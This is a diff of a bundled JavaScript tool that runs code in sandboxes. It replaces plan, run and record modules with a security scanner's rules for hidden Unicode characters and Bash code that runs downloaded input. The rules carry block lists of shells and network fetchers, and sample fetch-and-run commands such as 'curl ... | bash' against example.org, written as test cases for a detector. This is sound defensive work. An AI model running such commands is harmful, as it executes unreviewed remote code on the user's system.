@@ -3,846 +3,6774 @@ exports.id = 932;
 exports.ids = [932];
 exports.modules = {
 
-/***/ 85494:
+/***/ 6734:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
-/* harmony export */   $: () => (/* binding */ blockView),
-/* harmony export */   I: () => (/* binding */ withOutcomes)
+/* harmony export */   u: () => (/* binding */ LANGUAGE_IDS)
 /* harmony export */ });
-function blockView({ number, snippet }) {
-    const { expect, files, parameters, stdin, tests } = snippet;
-    const material = (role, text) => text === null ? [] : [{ role, name: null, text }];
-    const testText = tests === null ? null : tests.kind === 'code' ? tests.source : JSON.stringify(tests.cases, null, 2);
-    return {
-        block: number,
-        caption: null,
-        expect,
-        materials: [
-            ...files.map(({ name, source }) => ({ role: 'file', name, text: source })),
-            ...material('params', parameters),
-            ...material('stdin', stdin),
-            ...material('tests', testText),
+/**
+ * The nouns of the house. Everything here is plain, read-only data that can be printed, stored and replayed.
+ * Units stand last in a name (`timeoutMs`, `memoryBytes`).
+ */
+const LANGUAGE_IDS = ['python', 'javascript', 'typescript', 'bash'];
+
+
+/***/ }),
+
+/***/ 17932:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+
+// EXPORTS
+__webpack_require__.d(__webpack_exports__, {
+  c: () => (/* reexport */ NO_OVERRIDES),
+  v: () => (/* binding */ builtInRules)
+});
+
+// EXTERNAL MODULE: ./build/core/types.js
+var types = __webpack_require__(6734);
+;// CONCATENATED MODULE: ./build/rules/any.js
+/** Rules for every language: what a reader cannot see, and what the scan could not look at. */
+
+const any_hidden = 'Delete the character, or write it as an escape so that readers see it';
+const anyRules = [
+    {
+        id: 'any/obfuscation/bidirectional-text',
+        languages: types/* LANGUAGE_IDS */.u,
+        severity: 'high',
+        message: 'Has characters that change the direction of text, so that code reads otherwise than it runs',
+        recommendation: any_hidden,
+        metadata: { capability: 'obfuscation', cwe: 'CWE-1007' },
+        match: { obfuscation: 'bidi' },
+        bad: ["# \u202e admin \u2066\nprint('x')"],
+        ok: ["print('שלום')", "print('\\u202e')"],
+    },
+    {
+        id: 'any/obfuscation/invisible-text',
+        languages: types/* LANGUAGE_IDS */.u,
+        severity: 'medium',
+        message: 'Has invisible characters',
+        recommendation: any_hidden,
+        metadata: { capability: 'obfuscation', cwe: 'CWE-1007' },
+        match: { obfuscation: 'invisible' },
+        bad: ["x = 'a\u200bb'"],
+        ok: ["print('👨‍👩‍👧')", "print('\\u200b')"],
+    },
+    {
+        id: 'any/obfuscation/tag-characters',
+        languages: types/* LANGUAGE_IDS */.u,
+        severity: 'high',
+        message: 'Has letters that nobody sees but a machine reads (tag characters)',
+        recommendation: any_hidden,
+        metadata: { capability: 'obfuscation', cwe: 'CWE-1007' },
+        match: { obfuscation: 'tags' },
+        bad: ["print('ok')  # \u{e0065}\u{e0076}\u{e0061}\u{e006c}"],
+        ok: ["print('\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}')"],
+    },
+    {
+        id: 'any/obfuscation/confusable-name',
+        languages: types/* LANGUAGE_IDS */.u,
+        severity: 'high',
+        message: 'Has a name that mixes letters of different scripts which look alike',
+        recommendation: 'Write the name in one script',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-1007' },
+        match: { obfuscation: 'confusable' },
+        bad: ["p\u0430ssword = 'x'"],
+        ok: ["пароль = 'x'", "print('p\u0430ssword')", 'naïve = 1', 'Δx = 0.1'],
+    },
+    {
+        id: 'any/obfuscation/not-analysed',
+        languages: types/* LANGUAGE_IDS */.u,
+        severity: 'medium',
+        message: 'Could not be analysed in full, so the scan cannot say what it does',
+        recommendation: 'Read the code yourself; make it smaller or simpler to have it scanned',
+        metadata: { capability: 'obfuscation' },
+        match: { obfuscation: 'not-analysed' },
+        bad: ['(', { language: 'javascript', code: 'eval(`eval(\'eval("eval(String(1))")\')`)' }],
+        ok: ['print(1)', { language: 'javascript', code: 'console.log(1)' }],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-shells.js
+/** The shells by their names, for all rules of Bash. */
+const SHELL_NAMES = ['sh', 'bash', 'dash', 'zsh', 'ksh', 'ash', 'mksh', 'fish', 'csh', 'tcsh'];
+
+;// CONCATENATED MODULE: ./build/rules/bash-code.js
+/** Bash: code that is made at run time, from outside, from a decoder or by another program. */
+
+const RUNS_INPUT = [
+    ...SHELL_NAMES,
+    'eval',
+    'source',
+    'alias',
+    'trap',
+    'at',
+    'crontab',
+    'python',
+    'node',
+    'bun',
+    'deno',
+    'perl',
+    'ruby',
+    'php',
+    'lua',
+    'tclsh',
+    'Rscript',
+    'osascript',
+];
+const FROM_NETWORK = [
+    'curl',
+    'wget',
+    'fetch',
+    'aria2c',
+    'axel',
+    'lynx',
+    'w3m',
+    'elinks',
+    'links',
+    'http',
+    'https',
+    'xh',
+    'lwp-request',
+    'GET',
+    'ftp',
+    'tftp',
+    'sftp',
+    'scp',
+    'rsync',
+    'ssh',
+    'dig',
+    'nslookup',
+    'host',
+    'drill',
+    'gh',
+    'aws',
+    'gsutil',
+    'curlie',
+];
+const DECODERS = [
+    'base64',
+    'base32',
+    'xxd',
+    'openssl',
+    'gunzip',
+    'zcat',
+    'gzip',
+    'bzcat',
+    'bunzip2',
+    'xzcat',
+    'unxz',
+    'rev',
+    'tr',
+    'uudecode',
+    'gpg',
+    'basenc',
+];
+const bashCodeRules = [
+    {
+        id: 'sh/process/download-to-shell',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Runs what it has just downloaded, unseen (curl | bash, wget -O - | sh)',
+        recommendation: 'Have the script in the repository, where it can be read before it runs',
+        metadata: { capability: 'process', cwe: 'CWE-494' },
+        match: { pipe: { from: FROM_NETWORK, to: RUNS_INPUT } },
+        bad: [
+            'curl -fsSL https://example.org/install.sh | bash',
+            'wget -qO- https://example.org/x | sudo sh',
+            'wget -O - https://example.org/x | sh -s -- --yes',
+            'bash <(curl -s https://example.org/x)',
+            'source <(curl -s https://example.org/x)',
+            'eval "$(curl -s https://example.org/x)"',
+            'sh -c "$(wget -qO- https://example.org/x)"',
+            'curl -o /tmp/x https://example.org/x; sh /tmp/x',
+            'wget https://example.org/run.sh && chmod +x run.sh && ./run.sh',
+            'curl -s https://example.org/x | tee /tmp/log | base64 -d | python3',
+            'x=$(curl -s https://example.org); eval "$x"',
+            '. /dev/stdin <<< "$(curl -s https://example.org)"',
+            "curl -s https://example.org | xargs -I{} sh -c '{}'",
+            '$(curl -s https://example.org/cmd)',
+            'curl -s https://example.org/x | { bash; }',
+            'curl -s https://example.org/x | while read -r l; do eval "$l"; done',
+            'dig +short txt x.example.org | bash',
         ],
-        memory: [],
-    };
-}
-/** What only a run can add: how much memory was used when, and the first rows of the tables that were left. */
-const withOutcomes = (blocks, outcomes) => blocks.map((block) => {
-    const outcome = outcomes.find(({ record }) => record.block === block.block);
-    return outcome === undefined ? block : { ...block, memory: outcome.memory, tables: tablesIn(outcome) };
-});
-const TABLE_BYTES = 16 * 1024;
-const tablesIn = ({ files }) => files
-    .filter(({ name, content }) => /\.csv$/i.test(name) && content.length > 0)
-    .map(({ name, content }) => ({
-    name,
-    text: new TextDecoder().decode(content.subarray(0, TABLE_BYTES)),
-    isWhole: content.length <= TABLE_BYTES,
-}));
-
-
-/***/ }),
-
-/***/ 13082:
-/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
-
-/* harmony export */ __webpack_require__.d(__webpack_exports__, {
-/* harmony export */   h: () => (/* binding */ planDirect),
-/* harmony export */   w: () => (/* binding */ readPrograms)
-/* harmony export */ });
-/* harmony import */ var _core_limits__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(13779);
-/* harmony import */ var _core_options__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(43661);
-/* harmony import */ var _core_problem__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(29832);
-/* harmony import */ var _core_program__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(40807);
-/* harmony import */ var _core_result__WEBPACK_IMPORTED_MODULE_8__ = __webpack_require__(8918);
-/* harmony import */ var _documents_markdown__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(86653);
-/* harmony import */ var _languages__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(51149);
-/* harmony import */ var _plan__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(75923);
-/* harmony import */ var _program_source__WEBPACK_IMPORTED_MODULE_7__ = __webpack_require__(96529);
-
-
-
-
-
-
-
-
-
-const MARKDOWN = /\.(?:md|markdown)$/i;
-/**
- * Markdown gives its code blocks with all their roles (`/run` lines mean nothing here); everything else is one program,
- * in the language that was named or that its ending names.
- */
-function readPrograms({ name, text }, options, config) {
-    const rules = (0,_program_source__WEBPACK_IMPORTED_MODULE_7__/* .programRules */ .CF)(config);
-    const isMarkdown = name !== null && (MARKDOWN.test(name) || (name === '-' && options.language === null));
-    if (isMarkdown) {
-        const command = { kind: 'run', selection: null, options, caption: '' };
-        const fences = (0,_documents_markdown__WEBPACK_IMPORTED_MODULE_4__/* .readMarkdown */ .k)(text, '/run').elements.filter((element) => element.kind === 'fence');
-        const found = (0,_core_program__WEBPACK_IMPORTED_MODULE_3__/* .programsOf */ .h2)({ command, own: [], description: fences, vocabulary: (0,_program_source__WEBPACK_IMPORTED_MODULE_7__/* .vocabularyFor */ .eO)('/run'), rules });
-        if (!found.ok)
-            return fences.length === 0 && found.error.reasonCode === 'no_code' ? (0,_core_result__WEBPACK_IMPORTED_MODULE_8__/* .err */ ._)(NO_FENCE) : found;
-        const programs = found.value.snippets.map(({ number, snippet }) => ({ number, file: name, snippet }));
-        return (0,_core_result__WEBPACK_IMPORTED_MODULE_8__.ok)({ programs, skipped: found.value.skipped });
-    }
-    const language = languageFor(name, options, config);
-    if (language === null)
-        return (0,_core_result__WEBPACK_IMPORTED_MODULE_8__/* .err */ ._)(unknownEnding(name ?? ''));
-    const snippet = (0,_core_program__WEBPACK_IMPORTED_MODULE_3__/* .programOfCode */ .jG)({ source: text, language, parameters: options.parameters, stdin: options.stdin }, rules);
-    return snippet.ok ? (0,_core_result__WEBPACK_IMPORTED_MODULE_8__.ok)({ programs: [{ number: 1, file: name, snippet: snippet.value }], skipped: [] }) : snippet;
-}
-function languageFor(name, options, config) {
-    if (options.language !== null)
-        return options.language;
-    return name === null ? config.defaults.language : (0,_languages__WEBPACK_IMPORTED_MODULE_5__/* .languageOfFile */ .K2)(name);
-}
-/** There is no command here and no description, of which the usual answer speaks. */
-const NO_FENCE = (0,_core_problem__WEBPACK_IMPORTED_MODULE_2__/* .problem */ .CC)('no_code', 'There is no code: expected at least one fenced block, such as ```python');
-const unknownEnding = (name) => (0,_core_problem__WEBPACK_IMPORTED_MODULE_2__/* .problem */ .CC)('unknown_language', `The ending of ${name} names no language: say --language, or give Markdown (.md)`);
-async function planDirect(question) {
-    const { config, options, programs, inspector, decide } = question;
-    const limits = (0,_core_limits__WEBPACK_IMPORTED_MODULE_0__/* .effectiveLimits */ .W)(config, options);
-    if (!limits.ok)
-        return limits;
-    const plan = await (0,_plan__WEBPACK_IMPORTED_MODULE_6__/* .makePlan */ .C)({
-        programs,
-        content: {
-            repositoryId: question.repositoryId,
-            issueNumber: null,
-            request: { kind: 'direct', id: 0, index: 0, rerun: 0 },
-            source: { kind: 'direct', id: 0 },
-            options: (0,_core_options__WEBPACK_IMPORTED_MODULE_1__/* .writtenOptions */ .QW)(options),
-            headSha: question.headSha,
-            configDigest: question.configDigest,
-        },
-        limits: limits.value.limits,
-        // Whoever writes a command line or a workflow may have what the configuration's maximum allows.
-        raised: false,
-        images: config.images,
-        runtime: config.docker.runtime,
-        inspector,
-        decide,
-    });
-    return (0,_core_result__WEBPACK_IMPORTED_MODULE_8__.ok)(plan);
-}
-
-
-/***/ }),
-
-/***/ 75923:
-/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
-
-
-// EXPORTS
-__webpack_require__.d(__webpack_exports__, {
-  C: () => (/* binding */ makePlan)
-});
-
-// EXTERNAL MODULE: ./build/core/digest.js
-var core_digest = __webpack_require__(89211);
-// EXTERNAL MODULE: ./build/core/policy.js
-var policy = __webpack_require__(47905);
-// EXTERNAL MODULE: ./build/languages/index.js + 6 modules
-var languages = __webpack_require__(51149);
-;// CONCATENATED MODULE: ./build/app/companions.js
-/**
- * Files beside a program and its tests run as well, so they are looked at as well: those of the program's own language
- * together with it (a secret read in one file and sent by another is one deed), those of other languages by themselves.
- */
-
-
-/** Syntax and quality are the program's own; the security part speaks for everything that runs. */
-async function inspectWhole(inspector, snippet) {
-    const companions = companionsOf(snippet);
-    const inspection = await inspector.inspect(snippet);
-    if (companions.length === 0)
-        return inspection;
-    const kin = companions.filter(({ language }) => language === snippet.language);
-    const others = companions.filter(({ language }) => language !== snippet.language);
-    const reports = await Promise.all([
-        kin.length === 0 ? inspection.security : inspectTogether(inspector, snippet, kin),
-        ...others.map((companion) => inspectAlone(inspector, snippet, companion)),
-    ]);
-    return { ...inspection, security: merged(reports) };
-}
-function companionsOf({ files, tests, language }) {
-    const ofFiles = files.flatMap(({ name, source }) => {
-        const own = (0,languages/* languageOfFile */.K2)(name);
-        return own === null ? [] : [{ name, language: own, source }];
-    });
-    if (tests === null)
-        return ofFiles;
-    const source = tests.kind === 'code' ? tests.source : tests.cases.map(({ call }) => call).join('\n');
-    return [...ofFiles, { name: 'the tests', language, source }];
-}
-async function inspectTogether(inspector, snippet, kin) {
-    const parts = [{ name: null, source: snippet.source }, ...kin].map(({ name, source }) => ({
-        name,
-        lines: source.split('\n'),
-    }));
-    const together = parts.flatMap(({ lines }) => lines).join('\n');
-    const { security } = await inspector.inspect({ ...snippet, source: together, files: [], tests: null });
-    return { ...security, findings: security.findings.map((finding) => placed(finding, parts)) };
-}
-/** The finding in the lines of the part it stands in; its message names the part where that is not the program. */
-function placed(finding, parts) {
-    let before = 0;
-    for (const { name, lines } of parts) {
-        if (finding.line <= before + lines.length) {
-            const moved = { ...finding, line: finding.line - before, endLine: finding.endLine - before };
-            return name === null ? finding : named(moved, name);
-        }
-        before += lines.length;
-    }
-    return finding;
-}
-const named = (finding, name) => ({ ...finding, message: `In ${name}: ${finding.message}` });
-async function inspectAlone(inspector, snippet, { name, language, source }) {
-    const alone = { ...snippet, language, source, files: [], tests: null };
-    const { security } = await inspector.inspect(alone);
-    return { ...security, findings: security.findings.map((finding) => named(finding, name)) };
-}
-function merged(reports) {
-    const risk = (0,policy/* highestRisk */.gh)(reports.map((report) => report.risk));
-    return {
-        risk,
-        safe: risk === 'low',
-        analysed: reports.every(({ analysed }) => analysed),
-        findings: reports.flatMap(({ findings }) => findings),
-        recommendations: [...new Set(reports.flatMap(({ recommendations }) => recommendations))],
-    };
-}
-
-;// CONCATENATED MODULE: ./build/app/plan.js
-/** Stage one: what would run, how risky it is, and whether it may. Everything but execution; the result is plain JSON. */
-
-
-
-async function makePlan(question) {
-    const began = performance.now();
-    const { programs, limits, runtime, images } = question;
-    const blocks = await Promise.all(programs.map(async ({ number, file, snippet }) => ({
-        number,
-        file,
-        snippet,
-        inspection: await inspectWhole(question.inspector, snippet),
-        image: imageFor(snippet, images),
-    })));
-    const scanned = (0,policy/* highestRisk */.gh)(blocks.map(({ inspection }) => inspection.security.risk));
-    const risk = question.raised && !(0,policy/* riskAtLeast */.Et)(scanned, 'medium') ? 'medium' : scanned;
-    const digest = (0,core_digest/* digestOf */.ol)({
-        ...question.content,
-        blocks: [...(question.alongside ?? []), ...blocks.flatMap(({ snippet }) => digestedBlocks(snippet))],
-        limits,
-        policy: 'strict',
-        hosts: [],
-        images: Object.fromEntries(blocks.map(({ snippet, image }) => [snippet.language, image])),
-        runtime,
-    });
-    return {
-        schema: 1,
-        digest,
-        requestId: (0,core_digest/* requestIdOf */.Gb)(digest),
-        blocks,
-        risk,
-        limits,
-        policy: 'strict',
-        runtime,
-        verdict: syntaxVerdict(blocks) ?? (await question.decide(risk)),
-        scanMs: performance.now() - began,
-    };
-}
-function imageFor({ language }, images) {
-    const image = images[language];
-    if (image === undefined)
-        throw new Error(`No image is configured for ${language}`);
-    return image;
-}
-/** A syntax error in any block runs none: half a request helps nobody. */
-function syntaxVerdict(blocks) {
-    const broken = blocks.filter(({ inspection }) => !inspection.syntax.valid);
-    if (broken.length === 0)
-        return null;
-    const numbers = broken.map(({ number }) => number).join(', ');
-    const message = `Block ${numbers} does not parse, so nothing ran. Mend the lines below and ask again.`;
-    return { kind: 'refuse', reasonCode: 'syntax_error', message };
-}
-/** Every byte that reaches the container or judges its output, with its role. */
-function digestedBlocks(snippet) {
-    const { language, tests } = snippet;
-    const block = (role, text, name = null) => text === null ? [] : [{ role, language: role === 'program' ? language : null, name, text }];
-    return [
-        ...block('program', snippet.source),
-        ...snippet.files.flatMap((file) => block('file', file.source, file.name)),
-        ...block('params', snippet.parameters),
-        ...block('stdin', snippet.stdin),
-        ...block('expect', snippet.expect),
-        ...(tests === null
-            ? []
-            : block('tests', tests.kind === 'code' ? tests.source : JSON.stringify(tests.cases), tests.kind)),
-    ];
-}
-
-
-/***/ }),
-
-/***/ 93350:
-/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
-
-/* harmony export */ __webpack_require__.d(__webpack_exports__, {
-/* harmony export */   JH: () => (/* binding */ ranRecord),
-/* harmony export */   fQ: () => (/* binding */ answeredRecord),
-/* harmony export */   ou: () => (/* binding */ refusedRecord),
-/* harmony export */   rp: () => (/* binding */ runningRecord),
-/* harmony export */   w9: () => (/* binding */ plannedRecord)
-/* harmony export */ });
-/* harmony import */ var _core_conclusion__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(95600);
-/* harmony import */ var _core_result__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(8918);
-/* harmony import */ var _run__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(35553);
-/** Stage three's document: the execution record of one request, whatever became of it. */
-
-
-
-/** The record of a request that never came as far as a plan. */
-function refusedRecord(frame, reasonCode, message) {
-    const decision = reasonCode === 'no_command' || reasonCode === 'bot_author' || reasonCode === 'duplicate' ? 'ignore' : 'refuse';
-    return {
-        ...blank(frame),
-        decision,
-        reasonCode,
-        message,
-        conclusion: (0,_core_conclusion__WEBPACK_IMPORTED_MODULE_0__/* .concludeWithout */ .AZ)(decision, reasonCode),
-    };
-}
-/** The record of a command that was answered with words alone (`help`, `status`). */
-const answeredRecord = (frame, message) => ({ ...blank(frame), message });
-/** The record of a plan that waits, is refused, or is about to run: nothing of it has run. */
-function plannedRecord(frame, plan) {
-    const { decision, reasonCode, message } = verdictWords(plan);
-    return {
-        ...blank(frame),
-        ...facts(plan),
-        decision,
-        reasonCode,
-        message,
-        conclusion: decision === 'run' ? 'neutral' : (0,_core_conclusion__WEBPACK_IMPORTED_MODULE_0__/* .concludeWithout */ .AZ)(decision, reasonCode),
-        executions: plan.blocks.map((block) => (0,_run__WEBPACK_IMPORTED_MODULE_1__/* .blockRecord */ .p5)(block, (0,_run__WEBPACK_IMPORTED_MODULE_1__/* .notRun */ .nE)(block, reasonCode))),
-        timings: { totalMs: plan.scanMs, scanMs: plan.scanMs, imageMs: 0, runMs: 0 },
-    };
-}
-/** The record of a plan that is on its way: what ended has its result, what is still to come has none. */
-const runningRecord = (planned, done) => ({
-    ...planned,
-    executions: planned.executions.map((block) => done.find(({ record }) => record.block === block.block)?.record ?? block),
-});
-function ranRecord(frame, plan, outcomes, times) {
-    const executions = outcomes.map(({ record }) => record);
-    const results = executions.map(({ result }) => result);
-    const conclusion = (0,_core_conclusion__WEBPACK_IMPORTED_MODULE_0__/* .concludeRun */ .jf)(results);
-    const failed = results.filter(({ success }) => !success).length;
-    const engine = outcomes.find((outcome) => outcome.engine)?.engine;
-    const trouble = results.find(({ status }) => ['infra-error', 'cancelled', 'not-run'].includes(status));
-    return {
-        ...blank(frame),
-        ...facts(plan),
-        decision: 'run',
-        reasonCode: trouble?.reasonCode ?? 'ok',
-        message: trouble?.status === 'infra-error' ? trouble.stderr : `Ran ${count(results.length, 'block')}, ${failed} failed.`,
-        conclusion,
-        startedAt: times.startedAt,
-        endedAt: times.endedAt,
-        ...(engine ? { engine } : {}),
-        executions,
-        timings: { totalMs: times.totalMs, scanMs: plan.scanMs, imageMs: times.imageMs, runMs: times.runMs },
-    };
-}
-function verdictWords({ verdict }) {
-    switch (verdict.kind) {
-        case 'run':
-            return { decision: 'run', reasonCode: 'ok', message: 'About to run.' };
-        case 'await-approval':
-            return { decision: 'await-approval', reasonCode: 'needs_approval', message: verdict.reasons.join(' ') };
-        case 'refuse':
-            return { decision: 'refuse', reasonCode: verdict.reasonCode, message: verdict.message };
-        default:
-            return (0,_core_result__WEBPACK_IMPORTED_MODULE_2__/* .assertNever */ .x)(verdict);
-    }
-}
-const facts = ({ digest, requestId, risk, limits }) => ({ digest, requestId, risk, limits });
-const blank = (frame) => ({
-    schema: 1,
-    tool: { name: 'sallyport', version: frame.version },
-    requestId: null,
-    digest: null,
-    decision: 'run',
-    reasonCode: 'ok',
-    message: '',
-    conclusion: 'success',
-    risk: null,
-    createdAt: frame.createdAt,
-    startedAt: null,
-    endedAt: null,
-    run: frame.run,
-    trigger: frame.trigger,
-    policy: 'strict',
-    limits: frame.limits,
-    executions: [],
-    attempts: [],
-    generation: null,
-    timings: { totalMs: 0, scanMs: 0, imageMs: 0, runMs: 0 },
-});
-const count = (number, noun) => `${number} ${noun}${number === 1 ? '' : 's'}`;
-
-
-/***/ }),
-
-/***/ 69370:
-/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
-
-/* harmony export */ __webpack_require__.d(__webpack_exports__, {
-/* harmony export */   B: () => (/* binding */ runRequest)
-/* harmony export */ });
-/* harmony import */ var _record__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(93350);
-/* harmony import */ var _run__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(35553);
-
-
-async function runRequest({ signal, clock }, question) {
-    const { frame, plan, sandbox, onOutput, onBlock } = question;
-    const startedMs = clock.now();
-    const listeners = { ...(onOutput === undefined ? {} : { onOutput }), ...(onBlock === undefined ? {} : { onBlock }) };
-    const outcomes = await (0,_run__WEBPACK_IMPORTED_MODULE_1__/* .runPlan */ .Fo)(plan, { sandbox, signal, ...listeners });
-    const endedMs = clock.now();
-    const runMs = outcomes.reduce((sum, { record }) => sum + record.result.durationMs, 0);
-    const record = (0,_record__WEBPACK_IMPORTED_MODULE_0__/* .ranRecord */ .JH)(frame, plan, outcomes, {
-        startedAt: new Date(startedMs).toISOString(),
-        endedAt: new Date(endedMs).toISOString(),
-        runMs,
-        // They are fetched at the same time, so that the slowest is what was waited for.
-        imageMs: Math.max(0, ...outcomes.map((outcome) => outcome.imageMs ?? 0)),
-        totalMs: endedMs - Date.parse(frame.createdAt),
-    });
-    return { record, outcomes };
-}
-
-
-/***/ }),
-
-/***/ 35553:
-/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
-
-
-// EXPORTS
-__webpack_require__.d(__webpack_exports__, {
-  p5: () => (/* binding */ blockRecord),
-  nE: () => (/* binding */ notRun),
-  Fo: () => (/* binding */ runPlan)
-});
-
-// EXTERNAL MODULE: external "node:crypto"
-var external_node_crypto_ = __webpack_require__(77598);
-// EXTERNAL MODULE: ./build/core/digest.js
-var digest = __webpack_require__(89211);
-;// CONCATENATED MODULE: ./build/core/verify.js
-const NONE = { by: 'none', passed: null, message: null };
-/** `success` of a result: it ended well and nobody's check says otherwise. */
-const isSuccess = (status, verification) => status === 'ok' && verification.passed !== false;
-/**
- * Expected output is judged first, then the tests; the first that fails is the answer. `parseError` finds in the
- * language's own words what went wrong.
- */
-function verify(snippet, execution, parseError) {
-    const expected = snippet.expect === null ? NONE : verifyOutput(snippet.expect, execution);
-    if (snippet.tests === null || expected.passed === false)
-        return expected;
-    const tested = verifyTests(execution, parseError);
-    if (!isGenerated(snippet.tests))
-        return tested;
-    // Somebody's own word for what is right stands above the advice of generated tests.
-    return expected.passed === true ? expected : { ...tested, by: 'generated-tests' };
-}
-const isGenerated = (tests) => tests.kind === 'code' && tests.by === 'model';
-function verifyOutput(expected, execution) {
-    if (execution.stdout.truncated)
-        return { by: 'expect', passed: false, message: 'The output is too long to be compared: some of it was left out.' };
-    const wanted = linesOf(expected);
-    const came = linesOf(execution.stdout.text);
-    const length = Math.max(wanted.length, came.length);
-    for (let index = 0; index < length; index += 1) {
-        if (wanted[index] === came[index])
-            continue;
-        return {
-            by: 'expect',
-            passed: false,
-            message: `Line ${index + 1}: expected ${shown(wanted[index])}, got ${shown(came[index])}.`,
-        };
-    }
-    return { by: 'expect', passed: true, message: null };
-}
-function verifyTests({ status, check }, parseError) {
-    if (check === null)
-        return { by: 'tests', passed: false, message: `The tests did not start: the program ended with ${status}.` };
-    if (check.passed)
-        return { by: 'tests', passed: true, message: null };
-    const error = parseError(check.stderr.text);
-    const lastWords = error === null ? (linesOf(check.stderr.text).at(-1) ?? '') : wordsOf(error);
-    const reason = check.exitCode === 0 ? 'ended before their last line' : `exited with ${check.exitCode ?? 'a signal'}`;
-    return { by: 'tests', passed: false, message: `The tests ${reason}${lastWords === '' ? '' : `: ${lastWords}`}` };
-}
-const wordsOf = ({ type, message }) => (message === '' ? type : `${type}: ${message}`);
-/** Trailing white space of lines and trailing blank lines do not count. */
-function linesOf(text) {
-    const lines = text.split(/\r?\n/).map((line) => line.trimEnd());
-    while (lines.at(-1) === '')
-        lines.pop();
-    return lines;
-}
-const LINE_MAX = 200;
-function shown(line) {
-    if (line === undefined)
-        return 'the end of the output';
-    return JSON.stringify(line.length > LINE_MAX ? `${line.slice(0, LINE_MAX)}…` : line);
-}
-
-// EXTERNAL MODULE: ./build/languages/index.js + 6 modules
-var languages = __webpack_require__(51149);
-;// CONCATENATED MODULE: ./build/app/run.js
-/** Stage two: the programs of a plan, one container each, in order, also after a failure. Needs no token and no key. */
-
-
-
-
-/** The last door before the sandbox: whoever calls it with a plan that nobody let through has made a mistake. */
-async function runPlan(plan, options) {
-    if (plan.verdict.kind !== 'run')
-        throw new Error(`A plan with the verdict ${plan.verdict.kind} does not run`);
-    const outcomes = [];
-    for (const block of plan.blocks) {
-        outcomes.push(await runBlock(plan, block, options));
-        if (outcomes.length < plan.blocks.length)
-            options.onBlock?.([...outcomes]);
-    }
-    return outcomes;
-}
-async function runBlock(plan, block, options) {
-    const job = jobFor(plan, block);
-    if (options.signal.aborted)
-        return { record: blockRecord(block, notRun(block, 'cancelled')), files: [], memory: [] };
-    const execution = await options.sandbox.run(job, options.signal, options.onOutput);
-    const { files, engine = null, imageMs = 0, memory = [] } = execution;
-    return { record: blockRecord(block, resultOf(block, execution), job.id), files, engine, imageMs, memory };
-}
-function jobFor(plan, { snippet, image }) {
-    const nonce = (0,external_node_crypto_.randomUUID)();
-    return {
-        id: (0,external_node_crypto_.randomUUID)(),
-        digest: plan.digest,
-        language: snippet.language,
-        image,
-        program: snippet.source,
-        files: snippet.files,
-        parameters: snippet.parameters ?? '{}',
-        stdin: snippet.stdin,
-        check: snippet.tests === null
-            ? null
-            : { source: languages/* LANGUAGES */.Yj[snippet.language].testProgram(snippet.source, snippet.tests, nonce), nonce },
-        limits: plan.limits,
-        policy: plan.policy,
-        runtime: plan.runtime,
-    };
-}
-function blockRecord(block, result, executionId = (0,external_node_crypto_.randomUUID)()) {
-    const { snippet, inspection } = block;
-    return {
-        executionId,
-        block: block.number,
-        file: block.file,
-        language: snippet.language,
-        code: snippet.source,
-        codeDigest: (0,digest/* textDigest */.oA)(snippet.source),
-        syntax: inspection.syntax,
-        security: inspection.security,
-        quality: inspection.quality,
-        result,
-    };
-}
-function resultOf({ snippet }, execution) {
-    const { status, stdout, stderr } = execution;
-    const ours = status === 'infra-error';
-    const { parseError } = languages/* LANGUAGES */.Yj[snippet.language];
-    const verification = ours || status === 'cancelled' ? NOT_VERIFIED : verify(snippet, execution, parseError);
-    return {
-        status,
-        reasonCode: execution.reasonCode ?? (status === 'cancelled' ? 'cancelled' : 'ok'),
-        success: isSuccess(status, verification),
-        exitCode: execution.exitCode,
-        signal: execution.signal,
-        stdout: stdout.text,
-        stderr: ours ? (execution.message ?? '') : stderr.text,
-        truncated: { stdout: stdout.truncated, stderr: stderr.truncated },
-        omittedBytes: { stdout: stdout.omittedBytes, stderr: stderr.omittedBytes },
-        error: status === 'ok' || ours ? null : parseError(stderr.text),
-        timedOut: status === 'timeout',
-        durationMs: execution.durationMs,
-        containerId: execution.containerId,
-        image: execution.image,
-        resources: execution.resources,
-        violations: execution.violations,
-        files: execution.files.map(({ name, bytes, type }) => ({ name, bytes, type })),
-        verification,
-    };
-}
-const NOT_VERIFIED = { by: 'none', passed: null, message: null };
-/** The result of a program that was never started. */
-function notRun(block, reasonCode) {
-    return {
-        status: 'not-run',
-        reasonCode,
-        success: false,
-        exitCode: null,
-        signal: null,
-        stdout: '',
-        stderr: '',
-        truncated: { stdout: false, stderr: false },
-        omittedBytes: { stdout: 0, stderr: 0 },
-        error: null,
-        timedOut: false,
-        durationMs: 0,
-        containerId: null,
-        image: { reference: block.image, digest: null },
-        resources: {
-            wallMs: null,
-            cpuMs: null,
-            peakMemoryBytes: null,
-            peakPids: null,
-            diskBytes: null,
-            networkBytes: null,
-        },
-        violations: [],
-        files: [],
-        verification: NOT_VERIFIED,
-    };
-}
-
-
-/***/ }),
-
-/***/ 95600:
-/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
-
-/* harmony export */ __webpack_require__.d(__webpack_exports__, {
-/* harmony export */   AZ: () => (/* binding */ concludeWithout),
